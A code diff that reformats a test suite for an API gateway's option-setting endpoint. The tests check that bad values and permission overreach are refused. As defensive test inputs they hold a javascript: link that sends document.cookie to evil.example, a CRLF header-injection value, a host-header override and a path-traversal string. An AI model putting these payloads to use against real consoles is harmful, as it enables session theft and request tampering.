@@ -28,7 +28,11 @@ describe('system options (super admin)', () => {
   });
 
   it('stores strings, numbers and booleans as strings and applies them at once', async () => {
-    expect((await root.client.put('/api/option/', { key: 'SystemName', value: 'My Gate' })).body).toEqual({ success: true, message: '更新成功', data: null });
+    expect((await root.client.put('/api/option/', { key: 'SystemName', value: 'My Gate' })).body).toEqual({
+      success: true,
+      message: '更新成功',
+      data: null,
+    });
     expect((await root.client.put('/api/option/', { key: 'QuotaForNewUser', value: 2500 })).status).toBe(200);
     expect((await root.client.put('/api/option/', { key: 'DrawingEnabled', value: true })).status).toBe(200);
     expect(await valueOf('SystemName')).toBe('My Gate');
@@ -58,8 +62,14 @@ describe('system options (super admin)', () => {
     [{ key: 'GroupRatio', value: '{not json' }, 'GroupRatio 不是合法的 JSON 字符串'],
     // Links the console opens for every user: a javascript: link would run in the console's origin.
     [{ key: 'TopUpLink', value: 'javascript:alert(document.cookie)' }, 'TopUpLink 必须是 http:// 或 https:// 开头的地址'],
-    [{ key: 'general_setting.docs_link', value: 'javascript:fetch(`//evil.example/${document.cookie}`)' }, 'general_setting.docs_link 必须是 http:// 或 https:// 开头的地址'],
-    [{ key: 'fetch_setting.allowed_ports', value: '[443]' }, 'fetch_setting.allowed_ports 必须是端口或端口范围字符串的 JSON 数组，如 ["443", "8000-9000"]'],
+    [
+      { key: 'general_setting.docs_link', value: 'javascript:fetch(`//evil.example/${document.cookie}`)' },
+      'general_setting.docs_link 必须是 http:// 或 https:// 开头的地址',
+    ],
+    [
+      { key: 'fetch_setting.allowed_ports', value: '[443]' },
+      'fetch_setting.allowed_ports 必须是端口或端口范围字符串的 JSON 数组，如 ["443", "8000-9000"]',
+    ],
     // Numbers that would leave the ledger's exact range: a quota beyond 2^53 is rounded, 1e300 "is an integer".
     [{ key: 'QuotaForNewUser', value: '1e300' }, 'QuotaForNewUser 不能大于 9007199254740991'],
     [{ key: 'QuotaForNewUser', value: '9007199254740993' }, 'QuotaForNewUser 不能大于 9007199254740991'],
@@ -70,25 +80,67 @@ describe('system options (super admin)', () => {
     [{ key: 'GroupRatio', value: '{"default": 1, "vip": 1000001}' }, 'GroupRatio vip 的值不能大于 1000000'],
     [{ key: 'GroupGroupRatio', value: '{"vip": {"default": 1e300}}' }, 'GroupGroupRatio vip: default 的值不能大于 1000000'],
     // Admin-set headers go out with the channel's key: never where the request lands, its framing or its credential.
-    [{ key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"host": "evil.example"}}' }, 'claude.model_headers_settings claude-sonnet-4: 请求头 host 不能在此设置'],
-    [{ key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"x-api-key": "mine"}}' }, 'claude.model_headers_settings claude-sonnet-4: 请求头 x-api-key 不能在此设置'],
-    [{ key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"anthropic-beta": "a\\r\\nx-injected: 1"}}' }, 'claude.model_headers_settings claude-sonnet-4: 请求头 anthropic-beta 的值必须是不含换行等控制字符的 ASCII 字符串或其数组'],
-    [{ key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"bad name": "v"}}' }, 'claude.model_headers_settings claude-sonnet-4: 请求头名称 bad name 不合法'],
-    [{ key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": "anthropic-beta"}' }, 'claude.model_headers_settings claude-sonnet-4 的值必须是请求头对象'],
+    [
+      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"host": "evil.example"}}' },
+      'claude.model_headers_settings claude-sonnet-4: 请求头 host 不能在此设置',
+    ],
+    [
+      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"x-api-key": "mine"}}' },
+      'claude.model_headers_settings claude-sonnet-4: 请求头 x-api-key 不能在此设置',
+    ],
+    [
+      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"anthropic-beta": "a\\r\\nx-injected: 1"}}' },
+      'claude.model_headers_settings claude-sonnet-4: 请求头 anthropic-beta 的值必须是不含换行等控制字符的 ASCII 字符串或其数组',
+    ],
+    [
+      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"bad name": "v"}}' },
+      'claude.model_headers_settings claude-sonnet-4: 请求头名称 bad name 不合法',
+    ],
+    [
+      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": "anthropic-beta"}' },
+      'claude.model_headers_settings claude-sonnet-4 的值必须是请求头对象',
+    ],
     // A path segment of every Gemini call's URL.
-    [{ key: 'gemini.version_settings', value: '{"default": "v1beta/../x?y"}' }, 'gemini.version_settings 版本必须是 v1、v1beta 这样的版本名'],
+    [
+      { key: 'gemini.version_settings', value: '{"default": "v1beta/../x?y"}' },
+      'gemini.version_settings 版本必须是 v1、v1beta 这样的版本名',
+    ],
     // Sent with every Gemini call: a typo made every call of the model an upstream 400.
-    [{ key: 'gemini.safety_settings', value: '{"default": "OFF", "gemini-2.5-pro": "BLOCK_SOME"}' }, 'gemini.safety_settings 阈值必须是 OFF、BLOCK_NONE、BLOCK_ONLY_HIGH、BLOCK_MEDIUM_AND_ABOVE、BLOCK_LOW_AND_ABOVE 或 HARM_BLOCK_THRESHOLD_UNSPECIFIED'],
+    [
+      { key: 'gemini.safety_settings', value: '{"default": "OFF", "gemini-2.5-pro": "BLOCK_SOME"}' },
+      'gemini.safety_settings 阈值必须是 OFF、BLOCK_NONE、BLOCK_ONLY_HIGH、BLOCK_MEDIUM_AND_ABOVE、BLOCK_LOW_AND_ABOVE 或 HARM_BLOCK_THRESHOLD_UNSPECIFIED',
+    ],
     // Model-name prefixes: anything else would make every structured call of a model choose blindly.
     [{ key: 'claude.structured_output_models', value: '{"claude-sonnet-4-5": true}' }, 'claude.structured_output_models 必须是 JSON 数组'],
     [{ key: 'claude.structured_output_models', value: '"claude-sonnet-4-5"' }, 'claude.structured_output_models 必须是 JSON 数组'],
-    [{ key: 'claude.structured_output_models', value: '["claude-sonnet-4-5", 4]' }, 'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]'],
-    [{ key: 'claude.structured_output_models', value: '[""]' }, 'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]'],
-    [{ key: 'claude.structured_output_models', value: '["claude sonnet"]' }, 'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]'],
-    [{ key: 'claude.structured_output_models', value: '[null]' }, 'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]'],
-    [{ key: 'claude.structured_output_models', value: JSON.stringify(Array.from({ length: 201 }, (_, i) => `claude-${i}`)) }, 'claude.structured_output_models 最多 200 个模型前缀'],
-    [{ key: 'fetch_setting.domain_list', value: '["https://hooks.example.com"]' }, 'fetch_setting.domain_list 必须是域名字符串的 JSON 数组，如 ["example.com", "*.example.com"]'],
-    [{ key: 'fetch_setting.ip_list', value: '["10.0.0.0/99"]' }, 'fetch_setting.ip_list 必须是 IP 地址或 CIDR 网段字符串的 JSON 数组，如 ["203.0.113.7", "10.0.0.0/8"]'],
+    [
+      { key: 'claude.structured_output_models', value: '["claude-sonnet-4-5", 4]' },
+      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
+    ],
+    [
+      { key: 'claude.structured_output_models', value: '[""]' },
+      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
+    ],
+    [
+      { key: 'claude.structured_output_models', value: '["claude sonnet"]' },
+      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
+    ],
+    [
+      { key: 'claude.structured_output_models', value: '[null]' },
+      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
+    ],
+    [
+      { key: 'claude.structured_output_models', value: JSON.stringify(Array.from({ length: 201 }, (_, i) => `claude-${i}`)) },
+      'claude.structured_output_models 最多 200 个模型前缀',
+    ],
+    [
+      { key: 'fetch_setting.domain_list', value: '["https://hooks.example.com"]' },
+      'fetch_setting.domain_list 必须是域名字符串的 JSON 数组，如 ["example.com", "*.example.com"]',
+    ],
+    [
+      { key: 'fetch_setting.ip_list', value: '["10.0.0.0/99"]' },
+      'fetch_setting.ip_list 必须是 IP 地址或 CIDR 网段字符串的 JSON 数组，如 ["203.0.113.7", "10.0.0.0/8"]',
+    ],
   ])('refuses %j', async (body, message) => {
     const res = await root.client.put('/api/option/', body);
     expect(res.status).toBe(400);
@@ -110,7 +162,13 @@ describe('system options (super admin)', () => {
   });
 
   it('refuses wrong shapes with 400', async () => {
-    for (const body of [{ key: 'Notice' }, { key: 'Notice', value: null }, { key: 'Notice', value: { a: 1 } }, { value: 'x' }, { key: '', value: 'x' }]) {
+    for (const body of [
+      { key: 'Notice' },
+      { key: 'Notice', value: null },
+      { key: 'Notice', value: { a: 1 } },
+      { value: 'x' },
+      { key: '', value: 'x' },
+    ]) {
       const res = await root.client.put('/api/option/', body);
       expect(res.status, JSON.stringify(body)).toBe(400);
       expect(res.body.success).toBe(false);
@@ -127,17 +185,55 @@ describe('system options (super admin)', () => {
 
     // The admin reads the operation, rate-limit, models and other tabs' options, never the system tab's.
     const adminKeys = ((await admin.client.get('/api/option/')).body.data as Array<{ key: string }>).map((o) => o.key);
-    for (const key of ['QuotaPerUnit', 'ModelRatio', 'ModelRequestRateLimitCount', 'gemini.safety_settings', 'Notice', 'SystemName', 'Chats', 'TopUpLink']) expect(adminKeys).toContain(key);
-    for (const key of ['ServerAddress', 'SMTPServer', 'SMTPAccount', 'GitHubClientId', 'oidc.well_known', 'EpayId', 'PayAddress', 'TurnstileSiteKey', 'WeChatServerAddress', 'TelegramBotName', 'PasswordLoginEnabled', 'SMTPToken']) {
+    for (const key of [
+      'QuotaPerUnit',
+      'ModelRatio',
+      'ModelRequestRateLimitCount',
+      'gemini.safety_settings',
+      'Notice',
+      'SystemName',
+      'Chats',
+      'TopUpLink',
+    ])
+      expect(adminKeys).toContain(key);
+    for (const key of [
+      'ServerAddress',
+      'SMTPServer',
+      'SMTPAccount',
+      'GitHubClientId',
+      'oidc.well_known',
+      'EpayId',
+      'PayAddress',
+      'TurnstileSiteKey',
+      'WeChatServerAddress',
+      'TelegramBotName',
+      'PasswordLoginEnabled',
+      'SMTPToken',
+    ]) {
       expect(adminKeys, key).not.toContain(key);
     }
     const rootKeys = ((await root.client.get('/api/option/')).body.data as Array<{ key: string }>).map((o) => o.key);
     expect(rootKeys).toEqual(expect.arrayContaining([...adminKeys, 'ServerAddress', 'SMTPServer', 'GitHubClientId']));
 
-    for (const [key, value] of [['Notice', 'from the admin'], ['ModelRequestRateLimitCount', '7'], ['claude.thinking_adapter_enabled', 'false']]) {
-      expect((await admin.client.put('/api/option/', { key, value })).body, key).toEqual({ success: true, message: '更新成功', data: null });
+    for (const [key, value] of [
+      ['Notice', 'from the admin'],
+      ['ModelRequestRateLimitCount', '7'],
+      ['claude.thinking_adapter_enabled', 'false'],
+    ]) {
+      expect((await admin.client.put('/api/option/', { key, value })).body, key).toEqual({
+        success: true,
+        message: '更新成功',
+        data: null,
+      });
     }
-    for (const [key, value] of [['ServerAddress', 'https://evil.example'], ['SMTPToken', 'x'], ['GitHubClientSecret', 'x'], ['EpayKey', 'x'], ['PasswordLoginEnabled', 'false'], ['TurnstileSecretKey', 'x']]) {
+    for (const [key, value] of [
+      ['ServerAddress', 'https://evil.example'],
+      ['SMTPToken', 'x'],
+      ['GitHubClientSecret', 'x'],
+      ['EpayKey', 'x'],
+      ['PasswordLoginEnabled', 'false'],
+      ['TurnstileSecretKey', 'x'],
+    ]) {
       const res = await admin.client.put('/api/option/', { key, value });
       expect(res.status, key).toBe(403);
       expect(res.body).toEqual({ success: false, message: '无权修改此配置项，仅超级管理员可以修改', data: null });
@@ -151,7 +247,11 @@ describe('system options (super admin)', () => {
     const doc = fs.readFileSync(new URL('../../../docs/configuration.md', import.meta.url), 'utf8');
     const listed = (name: string) => {
       const section = new RegExp(`<!-- ${name}:start -->([\\s\\S]*?)<!-- ${name}:end -->`).exec(doc)?.[1] ?? '';
-      const tableRows = section.split('\n').filter((line) => line.startsWith('|')).slice(2).map((line) => line.split('|')[2] ?? '');
+      const tableRows = section
+        .split('\n')
+        .filter((line) => line.startsWith('|'))
+        .slice(2)
+        .map((line) => line.split('|')[2] ?? '');
       return {
         keys: tableRows.flatMap((cell) => [...cell.matchAll(/`([^`]+)`/g)].map((m) => m[1]!)).sort(),
         secrets: tableRows.flatMap((cell) => [...cell.matchAll(/`([^`]+)` \(secret\)/g)].map((m) => m[1]!)).sort(),
@@ -164,8 +264,15 @@ describe('system options (super admin)', () => {
     expect(adminDoc.keys, 'docs/configuration.md: the keys an admin may change').toEqual(adminKeys);
     // Every key is in exactly one list, and the secrets are marked.
     const registry = Object.entries(optionRegistry as Record<string, OptionDefinition>);
-    expect([...adminDoc.keys, ...rootDoc.keys].sort(), 'docs/configuration.md: every option in one list').toEqual(registry.map(([key]) => key).sort());
-    expect([...adminDoc.secrets, ...rootDoc.secrets].sort(), 'docs/configuration.md: the secrets').toEqual(registry.filter(([, def]) => def.secret).map(([key]) => key).sort());
+    expect([...adminDoc.keys, ...rootDoc.keys].sort(), 'docs/configuration.md: every option in one list').toEqual(
+      registry.map(([key]) => key).sort(),
+    );
+    expect([...adminDoc.secrets, ...rootDoc.secrets].sort(), 'docs/configuration.md: the secrets').toEqual(
+      registry
+        .filter(([, def]) => def.secret)
+        .map(([key]) => key)
+        .sort(),
+    );
     for (const key of rootDoc.keys) expect((await admin.client.put('/api/option/', { key, value: '' })).status, key).toBe(403);
   });
 
@@ -173,7 +280,14 @@ describe('system options (super admin)', () => {
     ['EmailVerificationEnabled', [], '请先填写 SMTP 服务器'],
     ['GitHubOAuthEnabled', [['GitHubClientId', 'id']], '请先填写 GitHub Client ID 和 Client Secret'],
     ['LinuxDOOAuthEnabled', [['LinuxDOClientSecret', 'secret']], '请先填写 Linux DO Client ID 和 Client Secret'],
-    ['oidc.enabled', [['oidc.client_id', 'id'], ['oidc.client_secret', 'secret']], '请先填写 OIDC Client ID、Client Secret 和 Well-Known 地址（或授权、令牌、用户信息端点）'],
+    [
+      'oidc.enabled',
+      [
+        ['oidc.client_id', 'id'],
+        ['oidc.client_secret', 'secret'],
+      ],
+      '请先填写 OIDC Client ID、Client Secret 和 Well-Known 地址（或授权、令牌、用户信息端点）',
+    ],
     ['TurnstileCheckEnabled', [['TurnstileSiteKey', 'site']], '请先填写 Turnstile Site Key 和 Secret Key'],
     ['WeChatAuthEnabled', [['WeChatServerToken', 'token']], '请先填写微信服务器地址和访问凭证'],
     ['TelegramOAuthEnabled', [['TelegramBotName', 'bot']], '请先填写 Telegram Bot Token 和 Bot 名称'],
@@ -189,11 +303,42 @@ describe('system options (super admin)', () => {
 
   it.each([
     ['EmailVerificationEnabled', [['SMTPServer', 'smtp.example.com']]],
-    ['GitHubOAuthEnabled', [['GitHubClientId', 'id'], ['GitHubClientSecret', 'secret']]],
-    ['oidc.enabled', [['oidc.client_id', 'id'], ['oidc.client_secret', 'secret'], ['oidc.well_known', 'https://idp.example.com/.well-known/openid-configuration']]],
-    ['TurnstileCheckEnabled', [['TurnstileSiteKey', 'site'], ['TurnstileSecretKey', 'secret']]],
-    ['WeChatAuthEnabled', [['WeChatServerAddress', 'https://wechat.example.com'], ['WeChatServerToken', 'token']]],
-    ['TelegramOAuthEnabled', [['TelegramBotName', 'bot'], ['TelegramBotToken', '123:abc']]],
+    [
+      'GitHubOAuthEnabled',
+      [
+        ['GitHubClientId', 'id'],
+        ['GitHubClientSecret', 'secret'],
+      ],
+    ],
+    [
+      'oidc.enabled',
+      [
+        ['oidc.client_id', 'id'],
+        ['oidc.client_secret', 'secret'],
+        ['oidc.well_known', 'https://idp.example.com/.well-known/openid-configuration'],
+      ],
+    ],
+    [
+      'TurnstileCheckEnabled',
+      [
+        ['TurnstileSiteKey', 'site'],
+        ['TurnstileSecretKey', 'secret'],
+      ],
+    ],
+    [
+      'WeChatAuthEnabled',
+      [
+        ['WeChatServerAddress', 'https://wechat.example.com'],
+        ['WeChatServerToken', 'token'],
+      ],
+    ],
+    [
+      'TelegramOAuthEnabled',
+      [
+        ['TelegramBotName', 'bot'],
+        ['TelegramBotToken', '123:abc'],
+      ],
+    ],
   ])('turns %s on once its settings are there', async (toggle, settings) => {
     for (const [key, value] of settings as string[][]) expect((await root.client.put('/api/option/', { key, value })).status).toBe(200);
     expect((await root.client.put('/api/option/', { key: toggle, value: 'true' })).status).toBe(200);
@@ -208,7 +353,9 @@ describe('system options (super admin)', () => {
     expect(res.body.message).toBe('自用模式和演示站点模式不能同时开启');
     expect((await root.client.put('/api/option/', { key: 'SelfUseModeEnabled', value: 'false' })).status).toBe(200);
     expect((await root.client.put('/api/option/', { key: 'DemoSiteEnabled', value: 'true' })).status).toBe(200);
-    expect((await root.client.put('/api/option/', { key: 'SelfUseModeEnabled', value: 'true' })).body.message).toBe('自用模式和演示站点模式不能同时开启');
+    expect((await root.client.put('/api/option/', { key: 'SelfUseModeEnabled', value: 'true' })).body.message).toBe(
+      '自用模式和演示站点模式不能同时开启',
+    );
     expect((await root.client.put('/api/option/', { key: 'DemoSiteEnabled', value: 'false' })).status).toBe(200);
   });
 
